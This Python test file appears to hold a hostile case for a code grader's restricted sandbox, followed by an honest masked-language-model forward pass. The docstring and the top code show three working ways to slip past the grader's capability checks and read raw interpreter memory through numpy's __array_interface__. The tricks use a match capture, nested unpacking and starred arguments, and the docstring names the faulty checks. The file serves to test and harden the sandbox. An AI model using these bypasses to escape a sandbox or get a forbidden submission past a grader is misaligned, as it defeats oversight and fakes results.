"""Hostile (verdict today: accepted; deserved: forbidden_api). Three more bindings the capability
layer does not check, each carrying a class built in C by the real type.__new__ (read as
super(type, type).__new__) that defines __array_interface__, then an ndarray over a raw address
(the object numpy.__class__ pointer, id(numpy) + 8): a match statement's sequence-pattern capture
(`case [W]:`, only class-pattern captures are checked), an assignment unpacking two levels deep
(`[[W]] = [...]`, __mlm_items__ checks one level), and starred arguments into a function of the
file (`use(*starmap(...))`, a parameter is never checked). The forward itself is honest.
Root cause: grader/child/restricted.py _rewrite_case (checks only MatchClass captures),
Capabilities.items (one level), and no check on parameters (_rewrite_child).
"""

import itertools
import math

import numpy
import torch

iface = {"data": (id(numpy) + 8, False), "shape": (1,), "typestr": "<u8", "version": 3}
spec = [(type, "W", (object,), {"__array_interface__": iface})]
new_class = super(type, type).__new__

match list(itertools.starmap(new_class, spec)):
    case [W1]:
        pass
match list(map(numpy.asarray, itertools.starmap(W1, [()]))):
    case [a1]:
        print("match", int(a1[0]) == id(type(numpy)))

[[W2]] = [list(itertools.starmap(new_class, spec))]
[a2] = map(numpy.asarray, itertools.starmap(W2, [()]))
print("nested", int(a2[0]) == id(type(numpy)))


def use(W3):
    return list(map(numpy.asarray, itertools.starmap(W3, [()])))


print("starred", use(*itertools.starmap(new_class, spec)))


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
